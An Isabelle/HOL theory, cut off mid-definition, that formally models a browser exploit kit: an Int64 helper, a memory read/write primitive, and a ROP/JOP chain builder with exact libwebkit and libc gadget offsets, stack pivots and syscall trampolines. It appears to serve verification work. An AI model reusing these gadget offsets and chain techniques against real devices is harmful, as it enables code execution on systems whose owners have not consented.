theory Spec2Isabelle
  imports Main "HOL-Library.Word"
begin

unbundle bit_operations_syntax

section \<open>JavaScript values seen by the Int64 constructor\<close>

text \<open>
  Thrown JavaScript errors are values. The constructor name of the error is the
  datatype constructor, the message is its argument.
\<close>

datatype error = TypeError string | RangeError string | Error string

type_synonym byte = "8 word"

text \<open>
  Numbers are the integer-valued doubles together with \<open>NaN\<close> and the two infinities;
  fractional doubles are not part of the value type. An \<open>Int64\<close> object is its
  \<open>Uint8Array(8)\<close>, least significant byte first. \<open>JArray\<close> is an array (or typed
  array) of numbers, \<open>JObject\<close> an object with no \<open>length\<close> property.
\<close>

datatype jsnumber = NaN | PosInfinity | NegInfinity | Finite int

datatype jsval =
    JUndefined
  | JNull
  | JBoolean bool
  | JNumber jsnumber
  | JString string
  | JArray "jsnumber list"
  | JObject
  | JInt64 "byte list"

fun typeof :: "jsval \<Rightarrow> string" where
  "typeof JUndefined = ''undefined''"
| "typeof JNull = ''object''"
| "typeof (JBoolean b) = ''boolean''"
| "typeof (JNumber n) = ''number''"
| "typeof (JString s) = ''string''"
| "typeof (JArray xs) = ''object''"
| "typeof JObject = ''object''"
| "typeof (JInt64 bs) = ''object''"

text \<open>The comparisons \<open>x > k\<close> and \<open>x < k\<close> of a number with an integer literal.\<close>

fun num_gt :: "jsnumber \<Rightarrow> int \<Rightarrow> bool" where
  "num_gt (Finite n) k = (n > k)"
| "num_gt PosInfinity k = True"
| "num_gt NegInfinity k = False"
| "num_gt NaN k = False"

fun num_lt :: "jsnumber \<Rightarrow> int \<Rightarrow> bool" where
  "num_lt (Finite n) k = (n < k)"
| "num_lt PosInfinity k = False"
| "num_lt NegInfinity k = True"
| "num_lt NaN k = False"

text \<open>Storing a number into a \<open>Uint8Array\<close> element (ToUint8).\<close>

fun to_uint8 :: "jsnumber \<Rightarrow> byte" where
  "to_uint8 (Finite n) = word_of_int n"
| "to_uint8 NaN = 0"
| "to_uint8 PosInfinity = 0"
| "to_uint8 NegInfinity = 0"

definition hex_digit :: "nat \<Rightarrow> char" where
  "hex_digit d = ''0123456789abcdef'' ! d"

fun nat_to_hex :: "nat \<Rightarrow> string" where
  "nat_to_hex n =
     (if n < 16 then [hex_digit n] else nat_to_hex (n div 16) @ [hex_digit (n mod 16)])"

declare nat_to_hex.simps [simp del]

text \<open>\<open>Number.prototype.toString(16)\<close>.\<close>

fun toString16 :: "jsnumber \<Rightarrow> string" where
  "toString16 (Finite n) =
     (if n < 0 then CHR ''-'' # nat_to_hex (nat (- n)) else nat_to_hex (nat n))"
| "toString16 NaN = ''NaN''"
| "toString16 PosInfinity = ''Infinity''"
| "toString16 NegInfinity = ''-Infinity''"

text \<open>\<open>Math.floor\<close> is the identity on every number of the value type.\<close>

definition Math_floor :: "jsnumber \<Rightarrow> jsnumber" where
  "Math_floor x = x"

subsection \<open>parseInt with radix 16\<close>

definition is_white_space :: "char \<Rightarrow> bool" where
  "is_white_space c =
     ((of_char c :: nat) \<in> {9, 10, 11, 12, 13, 32, 160})"

definition digit_val :: "char \<Rightarrow> nat option" where
  "digit_val c =
     (let n = (of_char c :: nat) in
      if 48 \<le> n \<and> n \<le> 57 then Some (n - 48)
      else if 97 \<le> n \<and> n \<le> 102 then Some (n - 87)
      else if 65 \<le> n \<and> n \<le> 70 then Some (n - 55)
      else None)"

definition parseInt16 :: "string \<Rightarrow> jsnumber" where
  "parseInt16 s =
     (let s1 = dropWhile is_white_space s;
          neg = (s1 \<noteq> [] \<and> hd s1 = CHR ''-'');
          s2 = (if s1 \<noteq> [] \<and> (hd s1 = CHR ''-'' \<or> hd s1 = CHR ''+'') then tl s1 else s1);
          s3 = (if take 2 s2 = ''0x'' \<or> take 2 s2 = ''0X'' then drop 2 s2 else s2);
          ds = takeWhile (\<lambda>c. digit_val c \<noteq> None) s3;
          v = foldl (\<lambda>a c. 16 * a + int (the (digit_val c))) 0 ds
      in if ds = [] then NaN else Finite (if neg then - v else v))"

subsection \<open>utils.js: unhexlify\<close>

text \<open>
  The loop \<open>for (i = 0; i < hexstr.length; i += 2) bytes[i / 2] = parseInt(hexstr.substr(i, 2), 16)\<close>
  over a string of even length, two characters at a time.
\<close>

fun unhexlify_bytes :: "string \<Rightarrow> byte list" where
  "unhexlify_bytes (c1 # c2 # cs) = to_uint8 (parseInt16 [c1, c2]) # unhexlify_bytes cs"
| "unhexlify_bytes cs = []"

definition unhexlify :: "string \<Rightarrow> error + byte list" where
  "unhexlify hexstr =
     (if length hexstr mod 2 = 1 then Inl (TypeError ''Invalid hex string'')
      else Inr (unhexlify_bytes hexstr))"

section \<open>Int64 (int64.js)\<close>

text \<open>
  \<open>bytes.set(arr)\<close> on a \<open>Uint8Array\<close>: the source is copied to the front and the rest is
  kept; a source longer than the target is a \<open>RangeError\<close> of the engine.
\<close>

definition uint8array_set :: "byte list \<Rightarrow> byte list \<Rightarrow> error + byte list" where
  "uint8array_set bytes arr =
     (if length arr > length bytes then Inl (RangeError ''offset is out of bounds'')
      else Inr (arr @ drop (length arr) bytes))"

text \<open>The padding loop of the two-argument form; its bound shrinks as \<open>low\<close> grows.\<close>

function pad_low :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "pad_low i low =
     (if int i < 8 - int (length low) then pad_low (i + 1) (CHR ''0'' # low) else low)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(i, low). 8 - length low)") auto

declare pad_low.simps [simp del]

text \<open>The \<open>'string'\<close> case of the switch.\<close>

definition Int64_of_string :: "string \<Rightarrow> error + byte list" where
  "Int64_of_string low =
     (let low1 = (if take 2 low = ''0x'' then drop 2 low else low);
          low2 = (if length low1 mod 2 = 1 then CHR ''0'' # low1 else low1)
      in case unhexlify low2 of
           Inl e \<Rightarrow> Inl e
         | Inr bigEndian \<Rightarrow> uint8array_set (replicate 8 0) (rev bigEndian))"

text \<open>The switch on \<open>typeof low\<close>; the \<open>'number'\<close> case falls through to \<open>'string'\<close>.\<close>

fun Int64_switch :: "jsval \<Rightarrow> error + byte list" where
  "Int64_switch (JNumber n) = Int64_of_string (''0x'' @ toString16 (Math_floor n))"
| "Int64_switch (JString s) = Int64_of_string s"
| "Int64_switch (JInt64 bs) = uint8array_set (replicate 8 0) bs"
| "Int64_switch (JArray xs) =
     (if length xs \<noteq> 8 then Inl (TypeError ''Array must have excactly 8 elements.'')
      else uint8array_set (replicate 8 0) (map to_uint8 xs))"
| "Int64_switch JObject = Inl (TypeError ''Array must have excactly 8 elements.'')"
| "Int64_switch JNull = Inl (TypeError ''null has no properties'')"
| "Int64_switch JUndefined = Inr (replicate 8 0)"
| "Int64_switch (JBoolean b) = Inr (replicate 8 0)"

text \<open>\<open>new Int64(...arguments)\<close>: the result is the \<open>bytes\<close> of the new object.\<close>

definition Int64_new :: "jsval list \<Rightarrow> error + byte list" where
  "Int64_new arguments =
     (if length arguments > 2 \<or> length arguments = 0
      then Inl (TypeError ''Incorrect number of arguments to constructor'')
      else if length arguments = 2 then
        (case (arguments ! 0, arguments ! 1) of
           (JNumber low, JNumber high) \<Rightarrow>
             if num_gt low 0xffffffff \<or> num_gt high 0xffffffff \<or> num_lt low 0 \<or> num_lt high 0
             then Inl (RangeError ''Both arguments must fit inside a uint32'')
             else Int64_switch
                    (JString (''0x'' @ toString16 high @ pad_low 0 (toString16 low)))
         | _ \<Rightarrow> Inl (TypeError ''Both arguments must be numbers''))
      else Int64_switch (arguments ! 0))"

definition byteAt :: "byte list \<Rightarrow> nat \<Rightarrow> int" where
  "byteAt bytes i = uint (bytes ! i)"

text \<open>The decorator \<open>operation(f, nargs)\<close>: arguments that are not Int64 are converted.\<close>

fun convert_args :: "jsval list \<Rightarrow> error + byte list list" where
  "convert_args [] = Inr []"
| "convert_args (a # as) =
     (case (case a of JInt64 bs \<Rightarrow> Inr bs | _ \<Rightarrow> Int64_new [a]) of
        Inl e \<Rightarrow> Inl e
      | Inr x \<Rightarrow> (case convert_args as of Inl e \<Rightarrow> Inl e | Inr xs \<Rightarrow> Inr (x # xs)))"

definition operation ::
  "(byte list \<Rightarrow> byte list list \<Rightarrow> error + byte list) \<Rightarrow> string \<Rightarrow> nat
     \<Rightarrow> byte list \<Rightarrow> jsval list \<Rightarrow> error + byte list" where
  "operation f name nargs this arguments =
     (if length arguments \<noteq> nargs
      then Inl (Error (''Not enough arguments for function '' @ name))
      else case convert_args arguments of
             Inl e \<Rightarrow> Inl e
           | Inr new_args \<Rightarrow> f this new_args)"

text \<open>The loops of \<open>add\<close> and \<open>sub\<close>: \<open>ret[i] = cur\<close> appends, \<open>cur\<close> is not yet reduced.\<close>

function add_loop :: "nat \<Rightarrow> byte list \<Rightarrow> byte list \<Rightarrow> int \<Rightarrow> int list \<Rightarrow> int list" where
  "add_loop i this a carry ret =
     (if i < 8 then
        (let cur = byteAt this i + byteAt a i + carry
         in add_loop (i + 1) this a (if cur > 0xff then 1 else 0) (ret @ [cur]))
      else ret)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(i, this, a, carry, ret). 8 - i)") auto

declare add_loop.simps [simp del]

function sub_loop :: "nat \<Rightarrow> byte list \<Rightarrow> byte list \<Rightarrow> int \<Rightarrow> int list \<Rightarrow> int list" where
  "sub_loop i this a carry ret =
     (if i < 8 then
        (let cur = byteAt this i - byteAt a i - carry
         in sub_loop (i + 1) this a (if cur < 0 then 1 else 0) (ret @ [cur]))
      else ret)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(i, this, a, carry, ret). 8 - i)") auto

declare sub_loop.simps [simp del]

function neg_loop :: "nat \<Rightarrow> byte list \<Rightarrow> int list \<Rightarrow> int list" where
  "neg_loop i this ret =
     (if i < 8 then neg_loop (i + 1) this (ret @ [NOT (byteAt this i)]) else ret)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(i, this, ret). 8 - i)") auto

declare neg_loop.simps [simp del]

definition Int64_Zero :: "error + byte list" where
  "Int64_Zero = Int64_new [JNumber (Finite 0)]"

definition Int64_One :: "error + byte list" where
  "Int64_One = Int64_new [JNumber (Finite 1)]"

definition Int64_add :: "byte list \<Rightarrow> jsval list \<Rightarrow> error + byte list" where
  "Int64_add =
     operation (\<lambda>this args. Int64_new [JArray (map Finite (add_loop 0 this (hd args) 0 []))])
       ''add'' 1"

definition Int64_sub :: "byte list \<Rightarrow> jsval list \<Rightarrow> error + byte list" where
  "Int64_sub =
     operation (\<lambda>this args. Int64_new [JArray (map Finite (sub_loop 0 this (hd args) 0 []))])
       ''sub'' 1"

definition Int64_neg :: "byte list \<Rightarrow> jsval list \<Rightarrow> error + byte list" where
  "Int64_neg =
     operation
       (\<lambda>this args.
          case Int64_new [JArray (map Finite (neg_loop 0 this []))] of
            Inl e \<Rightarrow> Inl e
          | Inr r \<Rightarrow> (case Int64_One of Inl e \<Rightarrow> Inl e | Inr one \<Rightarrow> Int64_add r [JInt64 one]))
       ''neg'' 0"

text \<open>\<open>equals\<close>: the first differing byte returns false.\<close>

function equals_loop :: "nat \<Rightarrow> byte list \<Rightarrow> byte list \<Rightarrow> bool" where
  "equals_loop i bytes other =
     (if i < 8 then
        (if uint (bytes ! i) \<noteq> byteAt other i then False else equals_loop (i + 1) bytes other)
      else True)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(i, bytes, other). 8 - i)") auto

declare equals_loop.simps [simp del]

definition Int64_equals :: "byte list \<Rightarrow> jsval \<Rightarrow> error + bool" where
  "Int64_equals this other =
     (case (case other of JInt64 bs \<Rightarrow> Inr bs | _ \<Rightarrow> Int64_new [other]) of
        Inl e \<Rightarrow> Inl e
      | Inr oth \<Rightarrow> Inr (equals_loop 0 this oth))"

text \<open>The unsigned value of little-endian bytes, and an Int64 as the code builds it.\<close>

fun le_val :: "int list \<Rightarrow> int" where
  "le_val [] = 0"
| "le_val (x # xs) = x + 256 * le_val xs"

definition int64_val :: "byte list \<Rightarrow> int" where
  "int64_val bs = le_val (map uint bs)"

definition is_int64 :: "byte list \<Rightarrow> bool" where
  "is_int64 bs = (length bs = 8)"

section \<open>Values and buffers of the chain builder\<close>

text \<open>
  Modelled from the spec: the class \<open>Int\<close> of \<open>module/int64.mjs\<close> is not among the
  sources. The spec describes it as an opaque 8-byte two's-complement quantity with
  arithmetic exact modulo \<open>2 ^ 64\<close>, so addresses and pushed values are 64-bit words,
  \<open>new Int(n)\<close> is \<open>word_of_int n\<close> and \<open>x.add(n)\<close> is \<open>x + word_of_int n\<close>.
\<close>

type_synonym addr = "64 word"

text \<open>
  A field of the chain object that holds \<open>null\<close>, \<open>true\<close> or a number, and its
  coercion to a number in arithmetic and in an index expression.
\<close>

datatype field = FNull | FTrue | FNum int

fun to_number :: "field \<Rightarrow> int" where
  "to_number FNull = 0"
| "to_number FTrue = 1"
| "to_number (FNum n) = n"

text \<open>
  Modelled from the spec: \<open>module/rw.mjs\<close> is not among the sources. \<open>write64\<close> stores
  an 8-byte value, least significant byte first, at a byte offset of a \<open>Uint8Array\<close>;
  an element store outside the array is ignored, as typed arrays do. \<open>read64\<close> reads the
  eight bytes back.
\<close>

fun le_bytes_n :: "nat \<Rightarrow> addr \<Rightarrow> byte list" where
  "le_bytes_n 0 v = []"
| "le_bytes_n (Suc n) v = ucast v # le_bytes_n n (drop_bit 8 v)"

definition le_bytes :: "addr \<Rightarrow> byte list" where
  "le_bytes v = le_bytes_n 8 v"

fun write_bytes :: "byte list \<Rightarrow> nat \<Rightarrow> byte list \<Rightarrow> byte list" where
  "write_bytes buf off [] = buf"
| "write_bytes buf off (b # bs) = write_bytes (buf[off := b]) (Suc off) bs"

definition write64 :: "byte list \<Rightarrow> int \<Rightarrow> addr \<Rightarrow> byte list" where
  "write64 buf offset v = (if offset < 0 then buf else write_bytes buf (nat offset) (le_bytes v))"

fun word_of_le :: "byte list \<Rightarrow> addr" where
  "word_of_le [] = 0"
| "word_of_le (b # bs) = ucast b OR push_bit 8 (word_of_le bs)"

definition read64 :: "byte list \<Rightarrow> nat \<Rightarrow> addr" where
  "read64 buf off = word_of_le (take 8 (drop off buf))"

section \<open>The gadget catalog\<close>

definition kjop1 :: string where
  "kjop1 = CHR 0x0A # ''mov rdi, qword ptr [rdi]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''jmp qword ptr [rax + 0xe0]'' @ [CHR 0x0A]"

definition k2jop1 :: string where
  "k2jop1 = CHR 0x0A # ''mov rdi, qword ptr [rsi + 8]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''jmp qword ptr [rax + 0x70]'' @ [CHR 0x0A]"

definition ta_jop1 :: string where
  "ta_jop1 = CHR 0x0A # ''mov rdi, qword ptr [rsi + 0x18]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''call qword ptr [rax + 0xb8]'' @ [CHR 0x0A]"

definition ta_jop2 :: string where
  "ta_jop2 = CHR 0x0A # ''pop rsi'' @ CHR 0x0A # ''jmp qword ptr [rax + 0x5f]'' @ [CHR 0x0A]"

definition ta_jop3 :: string where
  "ta_jop3 = CHR 0x0A # ''mov rdi, qword ptr [rax + 8]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''jmp qword ptr [rax + 0x68]'' @ [CHR 0x0A]"

definition jop1 :: string where
  "jop1 = CHR 0x0A # ''mov rdi, qword ptr [rdi + 0x30]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''jmp qword ptr [rax + 8]'' @ [CHR 0x0A]"

definition jop2 :: string where
  "jop2 = CHR 0x0A # ''push rbp'' @ CHR 0x0A # ''mov rbp, rsp'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''call qword ptr [rax + 0x30]'' @ [CHR 0x0A]"

definition jop3 :: string where
  "jop3 = CHR 0x0A # ''mov rdx, qword ptr [rax + 0x18]'' @ CHR 0x0A # ''mov rax, qword ptr [rdi]''
     @ CHR 0x0A # ''call qword ptr [rax + 0x10]'' @ [CHR 0x0A]"

definition jop4 :: string where
  "jop4 = CHR 0x0A # ''push rdx'' @ CHR 0x0A # ''mov edi, 0xac9784fe''
     @ CHR 0x0A # ''jmp qword ptr [rax]'' @ [CHR 0x0A]"

definition jop5 :: string where
  "jop5 = ''pop rsp; ret''"

definition rop_epilogue :: string where
  "rop_epilogue = ''leave; ret''"

definition offset_libc_setjmp :: int where "offset_libc_setjmp = 0x258f4"
definition offset_libc_longjmp :: int where "offset_libc_longjmp = 0x29c58"

definition webkit_gadget_offsets :: "(string \<times> int) list" where
  "webkit_gadget_offsets =
    [(''pop rax; ret'', 0x0000000000035a1b),
     (''pop rbx; ret'', 0x000000000001537c),
     (''pop rcx; ret'', 0x0000000000025ecb),
     (''pop rdx; ret'', 0x0000000000060f52),
     (''pop rbp; ret'', 0x00000000000000b6),
     (''pop rsi; ret'', 0x000000000003bd77),
     (''pop rdi; ret'', 0x00000000001e3f87),
     (''pop rsp; ret'', 0x00000000000bf669),
     (''pop r8; ret'', 0x0000000000097442),
     (''pop r9; ret'', 0x00000000006f501f),
     (''pop r10; ret'', 0x0000000000060f51),
     (''pop r11; ret'', 0x0000000000d2a629),
     (''pop r12; ret'', 0x0000000000d8968d),
     (''pop r13; ret'', 0x00000000016ccff1),
     (''pop r14; ret'', 0x000000000003bd76),
     (''pop r15; ret'', 0x00000000002499df),
     (''ret'', 0x0000000000000032),
     (''leave; ret'', 0x0000000000291fd7),
     (''leave; jmp rcx'', 0x000000000062a061),
     (''neg rax; and rax, rcx; ret'', 0x0000000000e85f24),
     (''adc esi, esi; ret'', 0x000000000088cbb9),
     (''add rax, rdx; ret'', 0x00000000003cd92c),
     (''push rsp; jmp qword ptr [rax]'', 0x0000000001abbc92),
     (''add rcx, rsi; and rdx, rcx; or rax, rdx; ret'', 0x0000000000b8bc06),
     (''pop rdi; jmp qword ptr [rax + 0x50]'', 0x00000000021f9e8e),
     (''add rax, 8; ret'', 0x0000000000468988),
     (''mov qword ptr [rdi], rsi; ret'', 0x0000000000034a40),
     (''mov rax, qword ptr [rax]; ret'', 0x000000000002dc62),
     (''mov qword ptr [rdi], rax; ret'', 0x000000000005b1bb),
     (''mov dword ptr [rdi], eax; ret'', 0x000000000001f864),
     (''mov rdx, rcx; ret'', 0x0000000000eae9fd),
     (''mov qword ptr [rdx], rax; mov al, 1; ret'', 0x00000000000b6dcf),
     (''mov rdx, qword ptr [rcx]; ret'', 0x0000000000182bc4),
     (''cli; jmp qword ptr [rax + 0x43]'', 0x0000000002163442),
     (''sti; ret'', 0x00000000004b94c8),
     (''xchg rbp, rax; ret'', 0x000000000218ef60),
     (kjop1, 0x00000000010da705),
     (k2jop1, 0x0000000001988320),
     (jop1, 0x000000000028a8d0),
     (jop2, 0x000000000076b970),
     (jop3, 0x0000000000202698),
     (jop4, 0x00000000021af6ad),
     (ta_jop1, 0x00000000005efb14),
     (ta_jop2, 0x0000000002198221),
     (ta_jop3, 0x00000000014ff7a2)]"

definition libc_gadget_offsets :: "(string \<times> int) list" where
  "libc_gadget_offsets =
    [(''neg rax; ret'', 0x00000000000d3503),
     (''mov rdx, rax; xor eax, eax; shl rdx, cl; ret'', 0x00000000000ce436),
     (''mov qword ptr [rsi], rcx; ret'', 0x00000000000cede2),
     (''setjmp'', offset_libc_setjmp),
     (''longjmp'', offset_libc_longjmp)]"

text \<open>\<open>init_gadget_map\<close>: every entry is set to \<open>base_addr.add(offset)\<close>, in order.\<close>

fun init_gadget_map ::
  "(string \<rightharpoonup> addr) \<Rightarrow> (string \<times> int) list \<Rightarrow> addr \<Rightarrow> (string \<rightharpoonup> addr)" where
  "init_gadget_map gadget_map [] base_addr = gadget_map"
| "init_gadget_map gadget_map ((insn, offset) # offset_map) base_addr =
     init_gadget_map (gadget_map(insn \<mapsto> base_addr + word_of_int offset)) offset_map base_addr"

text \<open>The two calls of \<open>init\<close> that fill the catalog.\<close>

definition init_gadgets :: "addr \<Rightarrow> addr \<Rightarrow> (string \<rightharpoonup> addr)" where
  "init_gadgets libwebkit_base libc_base =
     init_gadget_map (init_gadget_map Map.empty webkit_gadget_offsets libwebkit_base)
       libc_gadget_offsets libc_base"

section \<open>The chain object\<close>

text \<open>
  What reaches the target through the arbitrary read/write primitive and the trigger:
  \<open>webcore_ta.write64(offset, value)\<close> and the read of \<open>textarea.scrollLeft\<close> that
  jumps into the chain.
\<close>

datatype target_event = TargetWrite64 addr int addr | ScrollLeft

text \<open>
  The fields of \<open>ChainBase\<close>, \<open>Chain803Base\<close> and \<open>Chain803\<close> that the operations
  read or write. A buffer that only the target reads (\<open>flag\<close>, \<open>jmp_target\<close>,
  \<open>jmp_buf\<close>, \<open>vtable\<close>, \<open>_return_value\<close>) is present by its target address, the
  result of \<open>get_view_vector\<close>. \<open>target_log\<close> is the trace of the target events so far.
\<close>

record chain =
  position :: nat
  is_stale :: bool
  stack :: "byte list"
  stack_addr :: addr
  retval_addr :: addr
  gadgets :: "string \<rightharpoonup> addr"
  syscall_map :: "string \<rightharpoonup> nat"
  syscall_array :: "nat \<rightharpoonup> addr"
  is_branch_ctx :: bool
  branch_position :: field
  delta_slot :: field
  rsp_slot :: field
  rsp_position :: field
  flag_addr :: addr
  jmp_target_p :: addr
  is_saved :: bool
  jmp_buf_p :: addr
  webcore_ta :: addr
  vtable_p :: addr
  old_vtable_p :: addr
  target_log :: "target_event list"

text \<open>
  A method either returns, with the chain as it left it, or throws, with the error and the
  chain as it was when the error was thrown.
\<close>

type_synonym res = "(error \<times> chain) + chain"

fun run_ops :: "(chain \<Rightarrow> res) list \<Rightarrow> chain \<Rightarrow> res" where
  "run_ops [] s = Inr s"
| "run_ops (f # fs) s = (case f s of Inl e \<Rightarrow> Inl e | Inr s' \<Rightarrow> run_ops fs s')"

subsection \<open>ChainBase\<close>

text \<open>
  Modelled from the spec: the class \<open>ChainBase\<close> of \<open>module/chain.mjs\<close> is not among
  the sources. From the spec: a chain owns a fixed-capacity byte buffer, a write cursor
  \<open>position\<close> that never exceeds the capacity, and is empty, building or stale; every
  push moves \<open>position\<close> forward by 8 and fails with an overflow error, leaving
  \<open>position\<close> unchanged, if the buffer is full; \<open>push_gadget\<close> resolves the key in the
  catalog and appends its address, and fails if the key was never registered;
  \<open>push_constant\<close> and \<open>push_value\<close> append an 8-byte value verbatim; \<open>push_call\<close>
  loads up to six arguments with the pop-register gadgets of the calling convention and
  appends the function address; \<open>push_syscall\<close> resolves the name to its number, loads
  it into the syscall-number register, loads the arguments as \<open>push_call\<close> does and
  appends the syscall trampoline; \<open>check_stale\<close> and \<open>check_is_empty\<close> throw on a chain
  that already ran or is empty; \<open>clean\<close> resets \<open>position\<close> to 0 and \<open>is_stale\<close> to
  false. The running byte count of a branch covers all appended content, so the pushes
  go through the \<open>push_value\<close> of the object, which \<open>Chain803Base\<close> overrides.
\<close>

definition ChainBase_push_value :: "addr \<Rightarrow> chain \<Rightarrow> res" where
  "ChainBase_push_value v s =
     (if position s + 8 > length (stack s)
      then Inl (Error ''no more space on the stack'', s)
      else Inr (s\<lparr>stack := write64 (stack s) (int (position s)) v,
                 position := position s + 8\<rparr>))"

definition ChainBase_clean :: "chain \<Rightarrow> chain" where
  "ChainBase_clean s = s\<lparr>is_stale := False, position := 0\<rparr>"

definition check_stale :: "chain \<Rightarrow> res" where
  "check_stale s =
     (if is_stale s then Inl (Error ''chain already ran, clean it first'', s)
      else Inr (s\<lparr>is_stale := True\<rparr>))"

definition check_is_empty :: "chain \<Rightarrow> res" where
  "check_is_empty s =
     (if position s = 0 then Inl (Error ''chain is empty'', s) else Inr s)"

subsection \<open>Chain803Base\<close>

definition push_value :: "addr \<Rightarrow> chain \<Rightarrow> res" where
  "push_value v s =
     (case ChainBase_push_value v s of
        Inl e \<Rightarrow> Inl e
      | Inr s' \<Rightarrow>
          Inr (if is_branch_ctx s'
               then s'\<lparr>branch_position := FNum (to_number (branch_position s') + 8)\<rparr>
               else s'))"

text \<open>\<open>f(this.get_gadget(key))\<close>: the lookup throws before \<open>f\<close> runs.\<close>

definition with_gadget :: "string \<Rightarrow> (addr \<Rightarrow> chain \<Rightarrow> res) \<Rightarrow> chain \<Rightarrow> res" where
  "with_gadget key f s =
     (case gadgets s key of
        None \<Rightarrow> Inl (Error (''gadget not found: '' @ key), s)
      | Some a \<Rightarrow> f a s)"

definition push_gadget :: "string \<Rightarrow> chain \<Rightarrow> res" where
  "push_gadget insn_str = with_gadget insn_str push_value"

definition push_constant :: "int \<Rightarrow> chain \<Rightarrow> res" where
  "push_constant n = push_value (word_of_int n)"

definition argument_pops :: "string list" where
  "argument_pops =
     [''pop rdi; ret'', ''pop rsi; ret'', ''pop rdx; ret'',
      ''pop rcx; ret'', ''pop r8; ret'', ''pop r9; ret'']"

definition push_args :: "addr list \<Rightarrow> (chain \<Rightarrow> res) list" where
  "push_args args = concat (map (\<lambda>(g, a). [push_gadget g, push_value a]) (zip argument_pops args))"

definition push_call :: "addr \<Rightarrow> addr list \<Rightarrow> chain \<Rightarrow> res" where
  "push_call func_addr args s =
     (if length args > 6 then Inl (TypeError ''push_call() takes at most 6 arguments'', s)
      else run_ops (push_args args @ [push_value func_addr]) s)"

definition push_syscall :: "string \<Rightarrow> addr list \<Rightarrow> chain \<Rightarrow> res" where
  "push_syscall syscall_name args s =
     (case syscall_map s syscall_name of
        None \<Rightarrow> Inl (Error (''syscall not found: '' @ syscall_name), s)
      | Some sysno \<Rightarrow>
          (case syscall_array s sysno of
             None \<Rightarrow> Inl (Error (''syscall not found: '' @ syscall_name), s)
           | Some trampoline \<Rightarrow>
               if length args > 6
               then Inl (TypeError ''push_syscall() takes at most 6 arguments'', s)
               else run_ops ([push_gadget ''pop rax; ret'', push_constant (int sysno)]
                              @ push_args args @ [push_value trampoline]) s))"

definition push_write64 :: "addr \<Rightarrow> addr \<Rightarrow> chain \<Rightarrow> res" where
  "push_write64 a v =
     run_ops [push_gadget ''pop rdi; ret'', push_value a,
              push_gadget ''pop rsi; ret'', push_value v,
              push_gadget ''mov qword ptr [rdi], rsi; ret'']"

definition push_end :: "chain \<Rightarrow> res" where
  "push_end = push_gadget rop_epilogue"

definition check_is_branching :: "chain \<Rightarrow> res" where
  "check_is_branching s =
     (if is_branch_ctx s
      then Inl (Error ''chain is still branching, end it before running'', s)
      else Inr s)"

definition clean_branch_ctx :: "chain \<Rightarrow> chain" where
  "clean_branch_ctx s =
     s\<lparr>is_branch_ctx := True, branch_position := FNull, delta_slot := FTrue,
       rsp_slot := FNull, rsp_position := FNull\<rparr>"

definition clean :: "chain \<Rightarrow> chain" where
  "clean s = (clean_branch_ctx (ChainBase_clean s))\<lparr>is_saved := True\<rparr>"

definition push_flag_addr :: "chain \<Rightarrow> res" where
  "push_flag_addr s = push_value (flag_addr s) s"

definition start_branch :: "chain \<Rightarrow> res" where
  "start_branch s =
     (if is_branch_ctx s then Inl (Error ''chain already branching, end it first'', s)
      else run_ops
        [push_gadget ''pop rcx; ret'',
         push_constant (- 1),
         push_gadget ''neg rax; ret'',
         push_gadget ''pop rsi; ret'',
         push_constant 0,
         push_gadget ''adc esi, esi; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rsi; ret'',
         push_gadget ''pop rax; ret'',
         push_flag_addr,
         push_gadget ''mov rax, qword ptr [rax]; ret'',
         push_gadget ''pop rcx; ret'',
         (\<lambda>s. Inr (s\<lparr>delta_slot := FNum (int (position s))\<rparr>)),
         push_constant 0,
         push_gadget ''neg rax; and rax, rcx; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rax; ret'',
         push_gadget ''pop rcx; ret'',
         (\<lambda>s. Inr (s\<lparr>rsp_slot := FNum (int (position s))\<rparr>)),
         push_constant 0,
         push_gadget ''pop rsi; ret'',
         (\<lambda>s. push_value (stack_addr s + word_of_int (int (position s) + 8)) s),
         (\<lambda>s. Inr (s\<lparr>branch_position := FNum 0, is_branch_ctx := True\<rparr>)),
         push_gadget ''add rcx, rsi; and rdx, rcx; or rax, rdx; ret'',
         push_gadget ''mov rdx, rcx; ret'',
         push_gadget ''pop rax; ret'',
         push_flag_addr,
         push_gadget ''mov rax, qword ptr [rax]; ret'',
         push_gadget ''add rax, rdx; ret'',
         push_gadget ''pop rdi; ret'',
         push_flag_addr,
         push_gadget ''mov qword ptr [rdi], rax; ret'',
         push_gadget ''pop rcx; ret'',
         push_constant 0,
         push_gadget ''mov rdx, rax; xor eax, eax; shl rdx, cl; ret'',
         push_gadget ''pop rax; ret'',
         (\<lambda>s. push_value (jmp_target_p s) s),
         push_gadget ''pop rdi; jmp qword ptr [rax + 0x50]'',
         push_constant 0,
         (\<lambda>s. Inr (s\<lparr>rsp_position := branch_position s\<rparr>)),
         (\<lambda>s. Inr (s\<lparr>stack := write64 (stack s) (to_number (rsp_slot s))
                                  (word_of_int (to_number (rsp_position s)))\<rparr>))] s)"

definition end_branch :: "chain \<Rightarrow> res" where
  "end_branch s =
     (if \<not> is_branch_ctx s then Inl (Error ''can not end nonbranching chain'', s)
      else
        (let delta = to_number (branch_position s) - to_number (rsp_position s)
         in Inr (clean_branch_ctx
                   (s\<lparr>stack := write64 (stack s) (to_number (delta_slot s))
                                  (word_of_int delta)\<rparr>))))"

definition push_save :: "chain \<Rightarrow> res" where
  "push_save s =
     (if is_saved s then Inl (Error ''restore first before saving again'', s)
      else run_ops
        [with_gadget ''setjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
         (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))] s)"

definition push_restore :: "bool \<Rightarrow> chain \<Rightarrow> res" where
